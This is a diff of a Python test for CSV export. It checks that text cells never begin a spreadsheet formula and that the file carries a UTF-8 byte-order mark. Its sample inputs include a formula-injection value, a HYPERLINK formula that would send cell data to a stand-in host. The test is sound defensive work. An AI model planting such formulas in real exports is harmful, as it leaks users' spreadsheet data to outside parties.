@@ -1,3 +1,4 @@
+import codecs
 import csv
 import json
 import os
@@ -30,7 +31,8 @@ HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "more")', "+44 20 7946 0000", "-
 def test_csv_text_never_starts_a_formula_and_reads_back_exactly(tmp_path):
     frame = pd.DataFrame({"text": HOSTILE, "start": range(-6, 6), "p": [-0.5] * 12})
     path = write_table(frame, tmp_path / "t.csv")
-    with open(path, newline="", encoding="utf-8") as handle:
+    assert path.read_bytes().startswith(codecs.BOM_UTF8)  # so that Excel reads it as UTF-8
+    with open(path, newline="", encoding="utf-8-sig") as handle:
         rows = list(csv.DictReader(handle))
     assert [r["text"][0] for r in rows if r["text"].startswith(FORMULA_STARTS)] == []
     assert rows[0]["text"] == "'" + HOSTILE[0] and rows[5]["text"] == "'cause I was"  # an elision stays
